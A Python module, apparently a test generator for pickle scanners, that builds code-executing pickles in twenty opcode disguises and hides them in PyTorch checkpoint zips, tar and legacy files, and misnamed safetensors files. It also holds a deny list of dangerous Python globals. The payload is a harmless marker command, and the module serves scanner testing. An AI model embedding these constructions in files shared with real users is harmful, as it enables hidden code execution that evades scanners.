"""Pickles that would run code, in every disguise and every file that a checkpoint reader opens.

The themes are those of the public test suites of pickle scanners (picklescan, fickling, modelscan); the programs are
built here. ``python -m reliability.hostile FILE`` reads one with the plain unpickler, which runs what it says.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable

import torch

MARKER = "executed"
COMMAND = f"touch {MARKER}"

# What scanners list as dangerous: each runs code, opens files or connections, or hands out something that does.
GLOBALS: dict[str, str] = {
    "os": "system popen execv spawnl posix_spawn remove rmdir",
    "posix": "system popen",
    "nt": "system",
    "subprocess": "run call check_output Popen getoutput",
    "pty": "spawn",
    "commands": "getoutput",
    "builtins": "eval exec compile getattr __import__ open globals vars breakpoint memoryview map apply",
    "__builtin__": "eval exec compile getattr apply execfile file",
    "importlib": "import_module reload",
    "importlib.util": "spec_from_file_location",
    "imp": "load_source",
    "runpy": "run_path run_module _run_code",
    "pkgutil": "resolve_name",
    "pydoc": "locate pipepager tempfilepager",
    "zipimport": "zipimporter",
    "types": "CodeType FunctionType MethodType",
    "marshal": "loads load",
    "pickle": "loads load Unpickler",
    "_pickle": "loads Unpickler",
    "cPickle": "loads",
    "dill": "loads",
    "joblib": "load",
    "shelve": "open",
    "dbm.dumb": "open",
    "operator": "attrgetter methodcaller itemgetter",
    "_operator": "attrgetter methodcaller",
    "functools": "partial reduce partialmethod",
    "_functools": "partial",
    "code": "InteractiveInterpreter.runcode interact",
    "codeop": "compile_command",
    "cProfile": "run runctx",
    "profile": "run Profile.run Profile.runctx",
    "trace": "Trace.run Trace.runctx",
    "bdb": "Bdb.run Bdb.runeval",
    "pdb": "run",
    "timeit": "timeit repeat main",
    "doctest": "debug_script debug_src",
    "unittest.mock": "_dot_lookup _importer",
    "test.support.script_helper": "assert_python_ok",
    "venv": "create main",
    "pip": "main",
    "ensurepip": "_run_pip",
    "idlelib.run": "Executive.runcode",
    "idlelib.pyshell": "ModifiedInterpreter.runcode",
    "idlelib.autocomplete": "AutoComplete.get_entity",
    "lib2to3.pgen2.grammar": "Grammar.loads",
    "lib2to3.pgen2.pgen": "ParserGenerator.make_label",
    "distutils.file_util": "write_file copy_file",
    "distutils.spawn": "spawn",
    "setuptools.sandbox": "run_setup",
    "asyncio.unix_events": "_UnixSubprocessTransport._start",
    "asyncio": "create_subprocess_shell",
    "multiprocessing.util": "spawnv_passfds",
    "concurrent.futures.process": "_process_worker",
    "threading": "Thread",
    "_thread": "start_new_thread",
    "signal": "raise_signal",
    "atexit": "register",
    "sys": "exit setprofile settrace",
    "gc": "get_objects",
    "inspect": "currentframe",
    "ctypes": "CDLL pythonapi.PyRun_SimpleString",
    "_ctypes": "dlopen",
    "cffi": "FFI",
    "io": "FileIO open",
    "_io": "FileIO open",
    "tempfile": "NamedTemporaryFile",
    "shutil": "rmtree copyfile unpack_archive",
    "pathlib": "Path.write_text Path.unlink",
    "codecs": "open decode",
    "fileinput": "FileInput",
    "linecache": "getlines",
    "logging": "FileHandler",
    "logging.config": "listen fileConfig",
    "logging.handlers": "SocketHandler",
    "sqlite3": "connect",
    "socket": "create_connection socket",
    "ssl": "get_server_certificate",
    "http.client": "HTTPConnection",
    "httplib": "HTTPSConnection",
    "urllib.request": "urlopen urlretrieve",
    "requests": "get",
    "requests.api": "get",
    "aiohttp": "ClientSession",
    "ftplib": "FTP",
    "imaplib": "IMAP4_stream",
    "poplib": "POP3",
    "smtplib": "SMTP",
    "telnetlib": "Telnet",
    "xmlrpc.client": "ServerProxy",
    "webbrowser": "open get",
    "antigravity": "geohash",
    "uuid": "_get_command_stdout _load_system_functions",
    "platform": "_syscmd_file",
    "_osx_support": "_read_output _find_build_tool",
    "_aix_support": "_read_cmd_output",
    "_pyrepl.pager": "pipe_pager",
    "mailcap": "findmatch",
    "cgitb": "lookup",
    "rlcompleter": "Completer.attr_matches",
    "string": "Formatter.get_field",
    "collections": "namedtuple",
    "typing": "ForwardRef._evaluate get_type_hints",
    "dataclasses": "make_dataclass _create_fn",
    "enum": "_test_simple_enum",
    "site": "addpackage execsitecustomize",
    "numpy": "load fromfile memmap",
    "numpy.testing._private.utils": "runstring",
    "numpy.f2py.crackfortran": "getlincoef param_eval myeval",
    "numpy.lib.npyio": "load",
    "pandas": "read_pickle eval",
    "cloudpickle": "_make_function loads",
    "cloudpickle.cloudpickle": "_builtin_type _make_skel_func subimport",
    "torch": "load compile hub.load jit.load ops.load_library",
    "torch.serialization": "load _get_restore_location os.system",
    "torch.storage": "_load_from_bytes",
    "torch.hub": "load _import_module",
    "torch.jit.unsupported_tensor_ops": "execWrapper",
    "torch.utils.collect_env": "run run_lambda",
    "torch.utils.bottleneck.__main__": "run_cprofile run_autograd_prof",
    "torch.utils.cpp_extension": "load_inline _run_ninja_build",
    "torch.utils.data.datapipes.utils.decoder": "basichandlers",
    "torch.utils._config_module": "ConfigModule.load_config",
    "torch.utils.model_dump": "get_model_info",
    "torch._dynamo.guards": "GuardBuilder.get",
    "torch._dynamo.utils": "import_submodule",
    "torch._inductor.codecache": "compile_file PyCodeCache.load",
    "torch.distributed.rpc.internal": "_run_function",
    "torch.fx.graph_module": "reduce_graph_module _exec_with_source _forward_from_src",
    "torch.fx.experimental.symbolic_shapes": "ShapeEnv.evaluate_guards_expression",
    "torch.package.package_importer": "PackageImporter",
    "torch.nn.modules.module": "Module.load_state_dict",
    "fickling.hook": "deactivate_safe_ml_environment run_hook",
    "picklescan.scanner": "scan_pickle_bytes",
}


def every_global() -> list[tuple[str, str]]:
    """Each dangerous (module, name)."""
    return [(module, name) for module, names in GLOBALS.items() for name in names.split()]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def found(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _nested(module: str, name: str) -> bytes:
    inner = b"\x80\x02" + found(module, name) + b"(" + text(COMMAND) + b"tR."
    return found("_pickle", "loads") + b"(B" + struct.pack("<I", len(inner)) + inner + b"tR"


# Ways to have a global called or kept: body of a pickle from module and name.
DISGUISES: dict[str, Callable[[str, str], bytes]] = {
    "GLOBAL, REDUCE": lambda m, n: found(m, n) + b"(" + text(COMMAND) + b"tR",
    "STACK_GLOBAL, REDUCE": lambda m, n: text(m) + text(n) + b"\x93(" + text(COMMAND) + b"tR",
    "memoised names": lambda m, n: (
        text(n) + b"q\x000" + text(m) + b"\x940h\x01h\x00\x93" + text(COMMAND) + b"\x85R"
    ),
    "INST": lambda m, n: b"(" + text(COMMAND) + f"i{m}\n{n}\n".encode(),
    "OBJ": lambda m, n: b"(" + found(m, n) + text(COMMAND) + b"o",
    "NEWOBJ": lambda m, n: found(m, n) + text(COMMAND) + b"\x85\x81",
    "NEWOBJ_EX": lambda m, n: found(m, n) + text(COMMAND) + b"\x85}\x92",
    "BUILD with __setstate__": lambda m, n: (
        found("argparse", "Namespace") + b")R}" + text("__setstate__") + found(m, n) + b"sb" + text(COMMAND) + b"b"
    ),
    "popped before STOP": lambda m, n: found(m, n) + b"(" + text(COMMAND) + b"tR0N",
    "kept by a tuple": lambda m, n: b"]" + found(m, n) + b"(" + text(COMMAND) + b"tR\x86",
    "text protocol": lambda m, n: found(m, n) + f"(S'{COMMAND}'\ntR".encode(),
    "behind a map": lambda m, n: (
        found("builtins", "list") + found("builtins", "map") + found(m, n) + b"](" + text(COMMAND) + b"e\x86R\x85R"
    ),
    "partial": lambda m, n: found("functools", "partial") + b"(" + found(m, n) + text(COMMAND) + b"tR)R",
    "pickle in a pickle": _nested,
    "APPENDS to an object": lambda m, n: found("collections", "deque") + b")R(" + found(m, n) + b"e",
    "SETITEMS of an object": lambda m, n: found("collections", "Counter") + b")R(N" + found(m, n) + b"u",
    "EXT1": lambda m, n: found(m, n) + b"0\x82\x01(" + text(COMMAND) + b"tR",
    "EXT4": lambda m, n: found(m, n) + b"0\x84\x01\0\0\0(" + text(COMMAND) + b"tR",
    "PERSID": lambda m, n: found(m, n) + b"0P" + COMMAND.encode() + b"\n",
    "BINPERSID": lambda m, n: found(m, n) + b"(" + text(COMMAND) + b"tRQ",
}  # fmt: skip
# Those that run ``os.system`` in the plain unpickler, which is what makes them real.
REAL = (
    "GLOBAL, REDUCE", "STACK_GLOBAL, REDUCE", "memoised names", "INST", "OBJ", "BUILD with __setstate__",
    "popped before STOP", "kept by a tuple", "text protocol", "behind a map", "partial", "pickle in a pickle",
)  # fmt: skip


def program(disguise: str, module: str, name: str) -> bytes:
    """A whole pickle."""
    return b"\x80\x04" + DISGUISES[disguise](module, name) + b"."


def zipped(names: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in names.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _head() -> bytes:
    return pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)


_SYS_INFO = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


def _beside(evil: bytes) -> bytes:
    """A good archive whose object holds the program beside its weights."""
    stream = io.BytesIO()
    torch.save({"state_dict": {"w": torch.ones(2)}, "args": None}, stream)
    with zipfile.ZipFile(stream) as archive:
        names = {name: archive.read(name) for name in archive.namelist()}
    inner = evil[2:-1]
    name = next(name for name in names if name.endswith("data.pkl"))
    head, _, tail = names[name].rpartition(b"N")
    names[name] = head + inner + tail
    return zipped(names)


def _tar(evil: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            info = tarfile.TarInfo(name)
            info.size = len(evil)
            archive.addfile(info, io.BytesIO(evil))
    return stream.getvalue()


# File name and content around a program; in all but "beside" there is nothing else that could be read.
CARRIERS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "zip": ("a.pt", lambda evil: zipped({"a/data.pkl": evil, "a/byteorder": b"little", "a/version": b"3\n"})),
    "beside": ("a.pt", _beside),
    "constants": (
        "a.pt",
        lambda evil: zipped({"a/constants.pkl": evil, "a/data.pkl": evil, "a/version": b"3\n"}),
    ),
    "legacy": ("a.pth", lambda evil: _head() + pickle.dumps(_SYS_INFO, 2) + evil + pickle.dumps([], 2)),
    "legacy sys_info": ("a.pth", lambda evil: _head() + evil + pickle.dumps({}, 2) + pickle.dumps([], 2)),
    "legacy magic": ("a.pth", lambda evil: evil + pickle.dumps(1001, 2)),
    "legacy keys": (
        "a.pth",
        lambda evil: _head() + pickle.dumps(_SYS_INFO, 2) + pickle.dumps({}, 2) + evil,
    ),
    "bare": ("pytorch_model.bin", lambda evil: evil),
    "tar": ("a.pt", _tar),
    "safetensors name": ("a.safetensors", lambda evil: evil),
    "archive in an archive": (
        "a.pt",
        lambda evil: zipped({"a/data.pkl": zipped({"a/data.pkl": evil}), "a/version": b"3\n"}),
    ),
}


if __name__ == "__main__":
    with open(sys.argv[1], "rb") as file:
        pickle.load(file)
